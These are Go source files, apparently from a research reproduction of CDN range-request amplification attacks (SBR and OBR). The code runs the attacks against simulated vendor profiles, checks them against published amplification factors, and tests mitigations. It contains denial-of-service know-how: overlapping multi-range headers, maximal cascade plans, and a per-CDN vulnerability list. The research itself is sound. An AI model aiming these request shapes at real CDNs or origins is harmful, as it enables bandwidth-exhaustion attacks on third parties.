// Range upstream (small fetch), a Deletion vendor strips it (full-object
// fetch), and KeyCDN's Repeat=2 exploited case produces a lazy trace
// followed by a deletion trace. Regenerate with UPDATE_TRACE_GOLDEN=1.
//
// The byte-sum test is the issue's acceptance check: the per-span
// bytes_up/bytes_down attributes, grouped by segment, must equal the
// run's netsim_segment_bytes_total delta exactly.

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"repro/internal/core"
	"repro/internal/metrics"
	"repro/internal/resource"
	"repro/internal/trace"
	"repro/internal/vendor"
)

// runTracedSBR performs one RunSBR against prof with a dedicated
// always-sampling tracer and returns the completed traces.
func runTracedSBR(t *testing.T, prof *vendor.Profile, size int64) []*trace.Trace {
	t.Helper()
	tracer := trace.New(trace.Config{SampleEvery: 1})
	store := resource.NewStore()
	store.AddSynthetic("/target.bin", size, "application/octet-stream")
	topo, err := core.NewSBRTopology(prof, store, core.SBROptions{OriginRangeSupport: true, Trace: tracer})
	if err != nil {
		t.Fatal(err)
	}
	defer topo.Close()
	if _, err := core.RunSBR(topo, "/target.bin", size, "t0"); err != nil {
		t.Fatal(err)
	}
	return tracer.Traces()
}

func TestTraceGoldenSpanTrees(t *testing.T) {
	cases := []struct {
		name    string
		prof    *vendor.Profile
		traces  int // one per exploited-case repeat
		fetches int // upstream fetch spans across all traces
	}{
		// StackPath is the Laziness class: the Range is forwarded, and
		// the 206 answer triggers the re-forward — two upstream fetch
		// spans inside one trace.
		{"stackpath", vendor.StackPath(), 1, 2},
		// Akamai is pure Deletion: one trace, one full-object fetch with
		// the Range stripped.
		{"akamai", vendor.Akamai(), 1, 1},
		// KeyCDN's Table IV case sends the identical request twice: the
		// first trace shows the lazy relay, the second the deletion fetch.
		{"keycdn", vendor.KeyCDN(), 2, 2},
	}
	for _, tc := range cases {
		tc := tc
		t.Run(tc.name, func(t *testing.T) {
			traces := runTracedSBR(t, tc.prof, 64<<10)
			if len(traces) != tc.traces {
				t.Fatalf("completed traces = %d, want %d", len(traces), tc.traces)
			}
			var b strings.Builder
			fetches := 0
			for _, tr := range traces {
				b.WriteString(tr.Tree())
				for _, sp := range tr.Spans {
					if strings.HasPrefix(sp.Name, "fetch ") {
						fetches++
					}
				}
			}
			if fetches != tc.fetches {
				t.Errorf("upstream fetch spans = %d, want %d:\n%s", fetches, tc.fetches, b.String())
			}
			got := b.String()
			path := filepath.Join("testdata", "golden", "trace-"+tc.name+".txt")
			if os.Getenv("UPDATE_TRACE_GOLDEN") != "" {
				if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatal(err)
			}
			if got != string(want) {
				t.Errorf("span tree diverged from golden.\ngot:\n%s\nwant:\n%s", got, want)
			}
		})
	}
}

// TestTraceByteAttrsMatchSegmentMetrics is the issue's acceptance
// check: a traced RunSBR yields one connected tree whose per-span byte
// attributes, summed per segment, equal the run's
// netsim_segment_bytes_total metrics delta.
func TestTraceByteAttrsMatchSegmentMetrics(t *testing.T) {
	tracer := trace.New(trace.Config{SampleEvery: 1})
	rt := NewRuntime()
	rt.Trace = tracer
	store := resource.NewStore()
	store.AddSynthetic("/target.bin", 256<<10, "application/octet-stream")
	topo, err := core.NewSBRTopology(vendor.StackPath(), store, core.SBROptions{OriginRangeSupport: true, Runtime: rt})
	if err != nil {
		t.Fatal(err)
	}
	defer topo.Close()

	before := rt.Metrics.Snapshot()
	if _, err := core.RunSBR(topo, "/target.bin", 256<<10, "bytes0"); err != nil {
		t.Fatal(err)
	}
	d := rt.Metrics.Snapshot().Delta(before)

	traces := tracer.Traces()
	if len(traces) != 1 {
		t.Fatalf("completed traces = %d, want 1", len(traces))
	}
	tr := traces[0]

	// Connectedness: every non-root span's parent is in the same tree.
	ids := map[trace.SpanID]bool{}
	for _, sp := range tr.Spans {
		ids[sp.ID] = true
	}
	roots := 0
	for _, sp := range tr.Spans {
		if sp.Parent == 0 {
			roots++
		} else if !ids[sp.Parent] {
			t.Errorf("span %s has dangling parent %s", sp.ID, sp.Parent)
		}
	}
	if roots != 1 {
		t.Errorf("tree has %d roots, want 1:\n%s", roots, tr.Tree())
	}

	bySeg := map[string]int64{}
	for _, sp := range tr.Spans {
		if seg := sp.Attr("segment"); seg != "" {
			bySeg[seg] += sp.AttrInt("bytes_up") + sp.AttrInt("bytes_down")
		}
	}
	for _, seg := range []string{"client-cdn", "cdn-origin"} {
		want := d.Value("netsim_segment_bytes_total",
			metrics.L("segment", seg), metrics.L("direction", "up")) +
			d.Value("netsim_segment_bytes_total",
				metrics.L("segment", seg), metrics.L("direction", "down"))
		if want == 0 {
			t.Errorf("metrics delta shows no traffic on %s", seg)
		}
		if bySeg[seg] != want {
			t.Errorf("span bytes on %s = %d, metrics delta = %d", seg, bySeg[seg], want)
		}
	}
}

// TestTraceOBRFourHopTree pins the OBR cascade's connected tree:
// attacker -> FCDN -> (fetch) -> BCDN -> (fetch) -> origin, with the
// planner budgeting for the traceparent header the traced request adds.
func TestTraceOBRFourHopTree(t *testing.T) {
	tracer := trace.New(trace.Config{SampleEvery: 1})
	store := resource.NewStore()
	store.AddSynthetic("/1KB.bin", 1024, "application/octet-stream")
	topo, err := core.NewOBRTopologyOpts(vendor.Cloudflare(), vendor.Akamai(), store,
		core.OBROptions{Trace: tracer})
	if err != nil {
		t.Fatal(err)
	}
	defer topo.Close()

	res, err := core.RunOBR(topo, "/1KB.bin", 0)
	if err != nil {
		t.Fatal(err)
	}
	if res.Parts < 2 {
		t.Fatalf("parts = %d, want multipart reply", res.Parts)
	}
	traces := tracer.Traces()
	if len(traces) != 1 {
		t.Fatalf("completed traces = %d, want 1", len(traces))
	}
	tr := traces[0]
	var nodes []string
	for _, sp := range tr.Spans {
		nodes = append(nodes, sp.Node)
	}
	want := []string{"attacker", "cloudflare-edge", "cloudflare-edge", "akamai-edge", "akamai-edge", "origin"}
	if strings.Join(nodes, ",") != strings.Join(want, ",") {
		t.Errorf("node order = %v, want %v:\n%s", nodes, want, tr.Tree())
	}
	// The untraced planner must agree with the traced plan: the traced
	// request's extra traceparent header is budgeted, so the realized n
	// can be at most the untraced maximum.
	plain := core.PlanMaxN(vendor.Cloudflare(), vendor.Akamai(), "/1KB.bin")
	if res.Case.N > plain.N {
		t.Errorf("traced plan n=%d exceeds untraced n=%d", res.Case.N, plain.N)
	}
}
