package exp

import (
	"context"
	"sync"

	"repro/internal/vendor"
)

// Map is the parallel vendor scheduler's primitive: it runs fn for
// every index in [0, n) on a worker pool of at most parallel
// goroutines and returns the results in index order, so callers can
// assemble tables deterministically no matter which cell finished
// first. Cells are expected to be self-contained (each builds and
// tears down its own topology), which makes them embarrassingly
// parallel.
//
// The first cell error cancels the context handed to the remaining
// cells and is returned (the lowest-index error wins, so failures are
// deterministic too). If ctx is cancelled before every cell ran, Map
// returns the context error.
func Map[T any](ctx context.Context, parallel, n int, fn func(ctx context.Context, i int) (T, error)) ([]T, error) {
	out := make([]T, n)
	if n == 0 {
		return out, ctx.Err()
	}
	if parallel > n {
		parallel = n
	}
	if parallel <= 1 {
		for i := 0; i < n; i++ {
			if err := ctx.Err(); err != nil {
				return nil, err
			}
			v, err := fn(ctx, i)
			if err != nil {
				return nil, err
			}
			out[i] = v
		}
		return out, nil
	}

	cctx, cancel := context.WithCancel(ctx)
	defer cancel()
	var (
		wg   sync.WaitGroup
		errs = make([]error, n) // one slot per index: no lock needed
		done = make([]bool, n)
		idx  = make(chan int)
	)
	go func() {
		defer close(idx)
		for i := 0; i < n; i++ {
			select {
			case idx <- i:
			case <-cctx.Done():
				return
			}
		}
	}()
	for w := 0; w < parallel; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range idx {
				v, err := fn(cctx, i)
				if err != nil {
					errs[i] = err
					cancel() // fail fast: stop feeding and wake peers
					return
				}
				out[i] = v
				done[i] = true
			}
		}()
	}
	wg.Wait()

	for _, err := range errs {
		if err != nil {
			return nil, err
		}
	}
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	// No cell failed and the parent context is live, yet a cell may have
	// been skipped if a sibling's cancel raced the feeder; finish the
	// stragglers serially so the contract (all n or an error) holds.
	for i := 0; i < n; i++ {
		if done[i] {
			continue
		}
		v, err := fn(ctx, i)
		if err != nil {
			return nil, err
		}
		out[i] = v
	}
	return out, nil
}

// ForEachVendor fans fn out over the 13 vendor profiles of the paper,
// at most parallel cells at a time, returning results in paper order.
// Each cell receives its own freshly built Profile, so cells may
// mutate options freely without cloning.
func ForEachVendor[T any](ctx context.Context, parallel int, fn func(ctx context.Context, p *vendor.Profile) (T, error)) ([]T, error) {
	all := vendor.All()
	return Map(ctx, parallel, len(all), func(ctx context.Context, i int) (T, error) {
		return fn(ctx, all[i])
	})
}
