package exp

import (
	"context"
	"fmt"
	"strconv"

	"repro/internal/core"
	"repro/internal/measure"
	"repro/internal/origin"
	"repro/internal/report"
	"repro/internal/vendor"
)

// ---------------------------------------------------------------------
// Experiment E1a — Table I: range forwarding behaviours (SBR).

// Table1 probes every vendor with the Table I range shapes, one
// isolated topology per cell, at most parallel cells at a time, under
// the process-default environment.
func Table1(ctx context.Context, parallel int) (*report.Table, []core.ForwardObservation, error) {
	return Table1Env(ctx, nil, parallel)
}

// Table1Env is Table1 reporting into an explicit runtime environment.
func Table1Env(ctx context.Context, rt *Runtime, parallel int) (*report.Table, []core.ForwardObservation, error) {
	probes := core.Table1Probes()
	perVendor, err := ForEachVendor(ctx, parallel, func(ctx context.Context, p *vendor.Profile) ([]core.ForwardObservation, error) {
		out := make([]core.ForwardObservation, 0, len(probes))
		for _, probe := range probes {
			obs, err := core.ObserveForwarding(ctx, rt, p.Clone(), probe, true)
			if err != nil {
				return nil, fmt.Errorf("%s/%s: %w", p.Name, probe.Label, err)
			}
			out = append(out, *obs)
		}
		return out, nil
	})
	if err != nil {
		return nil, nil, err
	}
	var observations []core.ForwardObservation
	for _, obs := range perVendor {
		observations = append(observations, obs...)
	}
	tab := &report.Table{
		Title:   "Table I — Range forwarding behaviours (SBR)",
		Slug:    "table1",
		Columns: []string{"CDN", "Client Range", "Forwarded Range(s)", "Policy", "SBR-vuln"},
	}
	for _, o := range observations {
		tab.AddRow(o.Vendor, o.Probe.Range, core.JoinForwarded(o.Forwarded), o.Policy.String(), yesNo(o.SBRVuln))
	}
	return tab, observations, nil
}

// ---------------------------------------------------------------------
// Experiment E1b — Table II: multi-range forwarding (OBR FCDN side).

// Table2 probes each vendor with an overlapping multi-range set and
// reports which forward it unchanged (the FCDN vulnerability).
func Table2(ctx context.Context, parallel int) (*report.Table, map[string]bool, error) {
	return Table2Env(ctx, nil, parallel)
}

// Table2Env is Table2 reporting into an explicit runtime environment.
func Table2Env(ctx context.Context, rt *Runtime, parallel int) (*report.Table, map[string]bool, error) {
	type cell struct {
		obs       *core.ForwardObservation
		name      string
		rangeCase string
		isVuln    bool
	}
	cells, err := ForEachVendor(ctx, parallel, func(ctx context.Context, p *vendor.Profile) (cell, error) {
		if p.Name == "cloudflare" {
			p.Options.CloudflareBypass = true // Table II's conditional position
		}
		rangeCase := core.BuildOverlappingRange(core.OBRFirstToken(p.Name), 4)
		probe := core.Table1Probe{Label: "overlap", Range: rangeCase, Size: 1024}
		obs, err := core.ObserveForwarding(ctx, rt, p, probe, false)
		if err != nil {
			return cell{}, fmt.Errorf("%s: %w", p.Name, err)
		}
		return cell{obs: obs, name: p.Name, rangeCase: rangeCase, isVuln: obs.Policy == vendor.Laziness}, nil
	})
	if err != nil {
		return nil, nil, err
	}
	vulnerable := make(map[string]bool, len(cells))
	tab := &report.Table{
		Title:   "Table II — Multi-range forwarding (OBR FCDN side)",
		Slug:    "table2",
		Columns: []string{"CDN", "Client Range", "Forwarded", "FCDN-vuln"},
	}
	for _, c := range cells {
		vulnerable[c.name] = c.isVuln
		tab.AddRow(c.obs.Vendor, c.rangeCase, core.JoinForwarded(c.obs.Forwarded), yesNo(c.isVuln))
	}
	return tab, vulnerable, nil
}

// ---------------------------------------------------------------------
// Experiment E1c — Table III: multi-range replying (OBR BCDN side).

// Table3 sends an overlapping multi-range set directly to each vendor
// edge (range-disabled origin behind it) and reports which build
// overlapping n-part responses.
func Table3(ctx context.Context, parallel int) (*report.Table, map[string]bool, error) {
	return Table3Env(ctx, nil, parallel)
}

// Table3Env is Table3 reporting into an explicit runtime environment.
func Table3Env(ctx context.Context, rt *Runtime, parallel int) (*report.Table, map[string]bool, error) {
	const n = 8
	type cell struct {
		name, display string
		parts         int
	}
	cells, err := ForEachVendor(ctx, parallel, func(ctx context.Context, p *vendor.Profile) (cell, error) {
		if err := ctx.Err(); err != nil {
			return cell{}, err
		}
		store := core.NewStoreWith(1024)
		topo, err := core.NewSBRTopology(p, store, core.SBROptions{OriginRangeSupport: false, Runtime: rt})
		if err != nil {
			return cell{}, err
		}
		req := core.NewAttackRequest(core.TargetPath)
		req.Headers.Add("Range", core.BuildOverlappingRange("0-", n))
		resp, err := origin.Fetch(topo.Net, topo.EdgeAddr, topo.ClientSeg, req)
		topo.Close()
		if err != nil {
			return cell{}, fmt.Errorf("%s: %w", p.Name, err)
		}
		return cell{name: p.Name, display: p.DisplayName, parts: core.CountParts(resp)}, nil
	})
	if err != nil {
		return nil, nil, err
	}
	vulnerable := make(map[string]bool, len(cells))
	tab := &report.Table{
		Title:   "Table III — Multi-range replying (OBR BCDN side)",
		Slug:    "table3",
		Columns: []string{"CDN", "Ranges Sent", "Parts Returned", "BCDN-vuln"},
	}
	for _, c := range cells {
		isVuln := c.parts >= n
		vulnerable[c.name] = isVuln
		tab.AddRow(c.display, strconv.Itoa(n), strconv.Itoa(c.parts), yesNo(isVuln))
	}
	return tab, vulnerable, nil
}

// ---------------------------------------------------------------------
// Experiment E3 — Table V: the OBR max amplification over 11 cascades.

// OBRCombination is one FCDN/BCDN pair's measurement.
type OBRCombination struct {
	FCDN, BCDN string
	Case       core.OBRCase
	Result     *core.OBRResult
}

// obrFCDNs and obrBCDNs are the Table V row/column sets.
func obrFCDNs() []string { return []string{"cdn77", "cdnsun", "cloudflare", "stackpath"} }
func obrBCDNs() []string { return []string{"akamai", "azure", "stackpath"} }

// OBRPairs returns the Table V cascade combinations as (FCDN, BCDN)
// vendor-name pairs in table order — a CDN is never cascaded with
// itself, leaving 11 of the 12 crossings. The campaign runner's default
// OBR cell set is exactly this list.
func OBRPairs() [][2]string {
	var out [][2]string
	for _, f := range obrFCDNs() {
		for _, b := range obrBCDNs() {
			if f != b {
				out = append(out, [2]string{f, b})
			}
		}
	}
	return out
}

// Table5 runs the OBR attack over the 11 cascaded combinations (a CDN
// is never cascaded with itself) with a 1 KB target resource, each
// cascade on its own topology cell.
func Table5(ctx context.Context, parallel int) (*report.Table, []OBRCombination, error) {
	return Table5Env(ctx, nil, parallel)
}

// Table5Env is Table5 reporting into an explicit runtime environment.
func Table5Env(ctx context.Context, rt *Runtime, parallel int) (*report.Table, []OBRCombination, error) {
	pairs := OBRPairs()
	combos, err := Map(ctx, parallel, len(pairs), func(ctx context.Context, i int) (OBRCombination, error) {
		combo, err := runOBRCombo(ctx, rt, pairs[i][0], pairs[i][1])
		if err != nil {
			return OBRCombination{}, fmt.Errorf("%s->%s: %w", pairs[i][0], pairs[i][1], err)
		}
		return *combo, nil
	})
	if err != nil {
		return nil, nil, err
	}
	tab := &report.Table{
		Title: "Table V — OBR max amplification (1KB resource, max n)",
		Slug:  "obr",
		Columns: []string{"FCDN", "BCDN", "Range Case", "Max n",
			"Server->BCDN", "BCDN->FCDN", "Factor"},
	}
	for _, combo := range combos {
		tab.AddRow(combo.FCDN, combo.BCDN,
			"bytes="+combo.Case.FirstToken+",0-,...,0-",
			strconv.Itoa(combo.Case.N),
			measure.FormatBytes(combo.Result.Amplification.AttackerBytes),
			measure.FormatBytes(combo.Result.Amplification.VictimBytes),
			fmt.Sprintf("%.2f", combo.Result.Amplification.Factor()))
	}
	return tab, combos, nil
}

func runOBRCombo(ctx context.Context, rt *Runtime, fcdnName, bcdnName string) (*OBRCombination, error) {
	fcdnProfile, ok := vendor.ByName(fcdnName)
	if !ok {
		return nil, fmt.Errorf("unknown fcdn %q", fcdnName)
	}
	bcdnProfile, ok := vendor.ByName(bcdnName)
	if !ok {
		return nil, fmt.Errorf("unknown bcdn %q", bcdnName)
	}
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	store := core.NewStoreWith(1024)
	topo, err := core.NewOBRTopologyOpts(fcdnProfile, bcdnProfile, store, core.OBROptions{Runtime: rt})
	if err != nil {
		return nil, err
	}
	defer topo.Close()
	result, err := core.RunOBRContext(ctx, topo, core.TargetPath, 0)
	if err != nil {
		return nil, err
	}
	return &OBRCombination{
		FCDN: fcdnProfile.DisplayName, BCDN: bcdnProfile.DisplayName,
		Case: result.Case, Result: result,
	}, nil
}

// ---------------------------------------------------------------------

func yesNo(b bool) string {
	if b {
		return "yes"
	}
	return "no"
}

func toFloats(xs []int64) []float64 {
	out := make([]float64, len(xs))
	for i, x := range xs {
		out[i] = float64(x)
	}
	return out
}
