package exp

// The paper-calibration tests: every registered experiment's content is
// checked against the published tables, with the vendor cells fanned
// out through the scheduler (the same path cmd/rangeamp -parallel
// exercises).

import (
	"context"
	"strconv"
	"strings"
	"testing"

	"repro/internal/core"
	"repro/internal/vendor"
)

var testCtx = context.Background()

// testParallel exercises the worker pool in every ported test; serial
// equivalence is covered separately by the determinism tests.
const testParallel = 4

// paperTable4 holds the published amplification factors (Table IV) at
// 1 MB and 25 MB, used as calibration targets with tolerance.
var paperTable4 = map[string][2]float64{
	"Akamai":        {1707, 43093},
	"Alibaba Cloud": {1056, 26241},
	"Azure":         {1401, 23481},
	"CDN77":         {1612, 40390},
	"CDNsun":        {1578, 38730},
	"Cloudflare":    {1282, 31836},
	"CloudFront":    {1356, 9281},
	"Fastly":        {1286, 31820},
	"G-Core Labs":   {1763, 43330},
	"Huawei Cloud":  {1465, 36335},
	"KeyCDN":        {724, 17744},
	"StackPath":     {1297, 32491},
	"Tencent Cloud": {1308, 32438},
}

func TestSBRSweepMatchesTable4(t *testing.T) {
	if testing.Short() {
		t.Skip("multi-MB sweep")
	}
	res, err := SBRSweep(testCtx, []int{1, 25}, testParallel)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Vendors) != 13 {
		t.Fatalf("swept %d vendors", len(res.Vendors))
	}
	const tolerance = 0.15
	for name, want := range paperTable4 {
		got, ok := res.Factor[name]
		if !ok || len(got) != 2 {
			t.Errorf("%s: missing sweep data", name)
			continue
		}
		for i, w := range want {
			rel := (got[i] - w) / w
			if rel > tolerance || rel < -tolerance {
				t.Errorf("%s @ %dMB: factor %.0f, paper %.0f (%.1f%% off)",
					name, res.SizesMB[i], got[i], w, rel*100)
			}
		}
	}
}

func TestSBRFactorProportionalToSize(t *testing.T) {
	if testing.Short() {
		t.Skip("multi-MB sweep")
	}
	// §IV-B: "the bigger the target resource, the larger the amplification
	// factor" — except the Azure (16 MB) and CloudFront (10 MB) caps.
	res, err := SBRSweep(testCtx, []int{2, 4}, testParallel)
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range res.Vendors {
		f := res.Factor[v]
		ratio := f[1] / f[0]
		if ratio < 1.8 || ratio > 2.2 {
			t.Errorf("%s: factor(4MB)/factor(2MB) = %.2f, want ~2", v, ratio)
		}
	}
}

func TestSBRCapsAzureAndCloudFront(t *testing.T) {
	if testing.Short() {
		t.Skip("multi-MB sweep")
	}
	res, err := SBRSweep(testCtx, []int{18, 24}, testParallel)
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range []string{"Azure", "CloudFront"} {
		f := res.Factor[v]
		if f[1]/f[0] > 1.05 {
			t.Errorf("%s: factor kept growing past its cap: %.0f -> %.0f", v, f[0], f[1])
		}
	}
	// A Deletion vendor keeps growing.
	f := res.Factor["Akamai"]
	if f[1]/f[0] < 1.25 {
		t.Errorf("Akamai flattened unexpectedly: %.0f -> %.0f", f[0], f[1])
	}
}

func TestClientTrafficStaysSmall(t *testing.T) {
	// Fig 6b: response traffic to the client is at most ~1500B per
	// request regardless of resource size (KeyCDN's two responses remain
	// the largest).
	res, err := SBRSweep(testCtx, []int{3}, testParallel)
	if err != nil {
		t.Fatal(err)
	}
	var maxBytes int64
	var maxVendor string
	for _, v := range res.Vendors {
		b := res.ClientBytes[v][0]
		if b <= 0 || b > 2000 {
			t.Errorf("%s: client traffic %dB out of range", v, b)
		}
		if b > maxBytes {
			maxBytes, maxVendor = b, v
		}
	}
	if maxVendor != "KeyCDN" {
		t.Errorf("largest client traffic from %s (%dB), paper says KeyCDN", maxVendor, maxBytes)
	}
}

func TestTable1AllVendorsSBRVulnerable(t *testing.T) {
	tab, observations, err := Table1(testCtx, testParallel)
	if err != nil {
		t.Fatal(err)
	}
	if len(tab.Rows) != 13*4 {
		t.Fatalf("%d rows", len(tab.Rows))
	}
	vulnerable := make(map[string]bool)
	for _, o := range observations {
		if o.SBRVuln {
			vulnerable[o.Vendor] = true
		}
	}
	if len(vulnerable) != 13 {
		t.Errorf("only %d vendors SBR-vulnerable, paper says all 13: %v", len(vulnerable), vulnerable)
	}
}

func TestTable1SpecificBehaviours(t *testing.T) {
	_, observations, err := Table1(testCtx, testParallel)
	if err != nil {
		t.Fatal(err)
	}
	find := func(vendorName, rangeHeader string) *core.ForwardObservation {
		for i := range observations {
			if observations[i].Vendor == vendorName && observations[i].Probe.Range == rangeHeader {
				return &observations[i]
			}
		}
		t.Fatalf("no observation for %s %s", vendorName, rangeHeader)
		return nil
	}
	if o := find("Akamai", "bytes=0-0"); o.Policy != vendor.Deletion {
		t.Errorf("Akamai bytes=0-0: %v", o.Policy)
	}
	if o := find("CloudFront", "bytes=0-0"); o.Policy != vendor.Expansion ||
		o.Forwarded[0] != "bytes=0-1048575" {
		t.Errorf("CloudFront bytes=0-0: %+v", o)
	}
	if o := find("Azure", "bytes=8388608-8388608"); len(o.Forwarded) != 2 ||
		o.Forwarded[0] != "None" || o.Forwarded[1] != "bytes=8388608-16777215" {
		t.Errorf("Azure window probe: %+v", o.Forwarded)
	}
	if o := find("CDN77", "bytes=2048-2050"); o.Policy != vendor.Laziness {
		t.Errorf("CDN77 first>=1024: %v", o.Policy)
	}
	if o := find("StackPath", "bytes=0-0"); len(o.Forwarded) != 2 ||
		o.Forwarded[0] != "Unchanged" || o.Forwarded[1] != "None" {
		t.Errorf("StackPath: %+v", o.Forwarded)
	}
	if o := find("KeyCDN", "bytes=0-0"); len(o.Forwarded) != 2 ||
		o.Forwarded[0] != "Unchanged" || o.Forwarded[1] != "None" {
		t.Errorf("KeyCDN: %+v", o.Forwarded)
	}
}

func TestTable2MatchesPaper(t *testing.T) {
	_, vulnerable, err := Table2(testCtx, testParallel)
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]bool{"cdn77": true, "cdnsun": true, "cloudflare": true, "stackpath": true}
	for name, isVuln := range vulnerable {
		if isVuln != want[name] {
			t.Errorf("%s FCDN-vulnerable = %v, paper says %v", name, isVuln, want[name])
		}
	}
	if len(vulnerable) != 13 {
		t.Errorf("probed %d vendors", len(vulnerable))
	}
}

func TestTable3MatchesPaper(t *testing.T) {
	_, vulnerable, err := Table3(testCtx, testParallel)
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]bool{"akamai": true, "azure": true, "stackpath": true}
	for name, isVuln := range vulnerable {
		if isVuln != want[name] {
			t.Errorf("%s BCDN-vulnerable = %v, paper says %v", name, isVuln, want[name])
		}
	}
}

// paperTable5 holds the published OBR factors for tolerance checks.
var paperTable5 = map[string]float64{
	"CDN77->Akamai":         3789.35,
	"CDN77->Azure":          53.55,
	"CDN77->StackPath":      3547.07,
	"CDNsun->Akamai":        3781.51,
	"CDNsun->Azure":         52.15,
	"CDNsun->StackPath":     3547.57,
	"Cloudflare->Akamai":    7432.53,
	"Cloudflare->Azure":     52.71,
	"Cloudflare->StackPath": 6513.69,
	"StackPath->Akamai":     7471.41,
	"StackPath->Azure":      50.74,
}

func TestTable5MatchesPaper(t *testing.T) {
	if testing.Short() {
		t.Skip("full OBR cascade")
	}
	tab, combos, err := Table5(testCtx, testParallel)
	if err != nil {
		t.Fatal(err)
	}
	if len(combos) != 11 {
		t.Fatalf("%d combinations, want 11", len(combos))
	}
	if len(tab.Rows) != 11 {
		t.Fatalf("%d table rows", len(tab.Rows))
	}
	const tolerance = 0.20
	for _, c := range combos {
		key := c.FCDN + "->" + c.BCDN
		want, ok := paperTable5[key]
		if !ok {
			t.Errorf("unexpected combination %s", key)
			continue
		}
		got := c.Result.Amplification.Factor()
		rel := (got - want) / want
		if rel > tolerance || rel < -tolerance {
			t.Errorf("%s: factor %.1f, paper %.1f (%.0f%% off, n=%d)",
				key, got, want, rel*100, c.Case.N)
		}
		if c.BCDN == "Azure" && c.Case.N != 64 {
			t.Errorf("%s: n = %d, want 64", key, c.Case.N)
		}
		if c.BCDN != "Azure" && (c.Case.N < 5000 || c.Case.N > 12000) {
			t.Errorf("%s: n = %d outside the paper's 5455..10801 band", key, c.Case.N)
		}
		if c.Result.Parts != c.Case.N {
			t.Errorf("%s: reply has %d parts for n=%d", key, c.Result.Parts, c.Case.N)
		}
	}
}

func TestBandwidthFigures(t *testing.T) {
	cfg := DefaultBandwidthConfig()
	cfg.Ms = []int{1, 5, 11, 14}
	fig7a, fig7b, err := Bandwidth(testCtx, cfg)
	if err != nil {
		t.Fatal(err)
	}
	if len(fig7a.Series) != 4 || len(fig7b.Series) != 4 {
		t.Fatalf("series counts: %d, %d", len(fig7a.Series), len(fig7b.Series))
	}
	steady := func(ys []float64) float64 {
		sum := 0.0
		for _, y := range ys[10:20] {
			sum += y
		}
		return sum / 10
	}
	// Fig 7a: client incoming < 500 Kbps for every m.
	for _, s := range fig7a.Series {
		for _, y := range s.Y {
			if y > 500 {
				t.Errorf("client series %s: %.1f Kbps > 500", s.Name, y)
			}
		}
	}
	// Fig 7b: proportional below saturation, pinned at ~1000 above.
	m1 := steady(fig7b.Series[0].Y)
	m5 := steady(fig7b.Series[1].Y)
	if m5/m1 < 4.5 || m5/m1 > 5.5 {
		t.Errorf("m=5/m=1 steady ratio = %.2f, want ~5", m5/m1)
	}
	m14 := steady(fig7b.Series[3].Y)
	if m14 < 970 {
		t.Errorf("m=14 steady = %.1f Mbps, want saturation", m14)
	}
}

func TestMitigationsCollapseFactors(t *testing.T) {
	tab, err := Mitigations(testCtx, testParallel)
	if err != nil {
		t.Fatal(err)
	}
	if len(tab.Rows) != 7 {
		t.Fatalf("%d rows", len(tab.Rows))
	}
	factor := func(row []string) float64 {
		f, err := strconv.ParseFloat(row[2], 64)
		if err != nil {
			t.Fatalf("bad factor cell %q", row[2])
		}
		return f
	}
	sbrBase, sbrLazy, sbrBounded, sbrSliced := factor(tab.Rows[0]), factor(tab.Rows[1]), factor(tab.Rows[2]), factor(tab.Rows[3])
	if sbrBase < 1000 {
		t.Errorf("unmitigated SBR factor = %.1f, want > 1000", sbrBase)
	}
	if sbrLazy > 3 {
		t.Errorf("Laziness SBR factor = %.1f, want ~1", sbrLazy)
	}
	if sbrBounded > 30 {
		t.Errorf("bounded-expansion SBR factor = %.1f, want small", sbrBounded)
	}
	if sbrSliced > 2000 || sbrSliced < 100 {
		t.Errorf("slicing SBR factor = %.1f, want ~sliceSize/clientResp", sbrSliced)
	}
	if sbrSliced >= sbrBase/5 {
		t.Errorf("slicing barely helped: %.1f vs %.1f", sbrSliced, sbrBase)
	}
	obrBase, obrReject, obrCoalesce := factor(tab.Rows[4]), factor(tab.Rows[5]), factor(tab.Rows[6])
	if obrBase < 100 {
		t.Errorf("unmitigated OBR factor = %.1f, want > 100 at n=256", obrBase)
	}
	if obrReject > 5 || obrCoalesce > 5 {
		t.Errorf("mitigated OBR factors = %.1f / %.1f, want ~1", obrReject, obrCoalesce)
	}
}

func TestRenderingsNonEmpty(t *testing.T) {
	res, err := SBRSweep(testCtx, []int{1}, testParallel)
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	if err := res.Table4().Render(&b); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "Akamai") {
		t.Error("Table4 rendering missing vendors")
	}
	fa, fb, fc := res.Fig6()
	b.Reset()
	if err := fa.Render(&b); err != nil || !strings.Contains(b.String(), "Fig 6a") {
		t.Errorf("Fig6a render: %v", err)
	}
	b.Reset()
	if err := fb.Render(&b); err != nil {
		t.Error(err)
	}
	b.Reset()
	if err := fc.Render(&b); err != nil {
		t.Error(err)
	}
}
