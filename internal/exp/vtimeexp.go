package exp

import (
	"context"
	"fmt"
	"time"

	"repro/internal/core"
	"repro/internal/report"
	"repro/internal/vendor"
)

// ---------------------------------------------------------------------
// Experiment X5 — virtual-time engine scaling.

// VTimeFlood demonstrates the discrete-event flood engine: first a
// matched pipe-vs-vtime pair showing bit-identical byte accounting,
// then vtime-only scaling rows taking the same attack to populations
// the goroutine engine cannot hold. The paper's §V-D flood is a few
// hundred real clients; the event engine turns it into the
// "production-traffic stress instrument" scale the ROADMAP asks for.
func VTimeFlood(ctx context.Context, parallel int) (*report.Table, error) {
	return VTimeFloodEnv(ctx, nil, parallel)
}

// VTimeFloodEnv is VTimeFlood reporting into an explicit runtime
// environment.
func VTimeFloodEnv(ctx context.Context, rt *Runtime, parallel int) (*report.Table, error) {
	const size = 1 * core.MiB

	type cfg struct {
		label   string
		engine  core.Engine
		workers int
	}
	configs := []cfg{
		{"matched", core.EnginePipe, 8},
		{"matched", core.EngineVTime, 8},
		{"scale", core.EngineVTime, 1_000},
		{"scale", core.EngineVTime, 10_000},
		{"scale", core.EngineVTime, 100_000},
	}

	type row struct {
		cells []string
	}
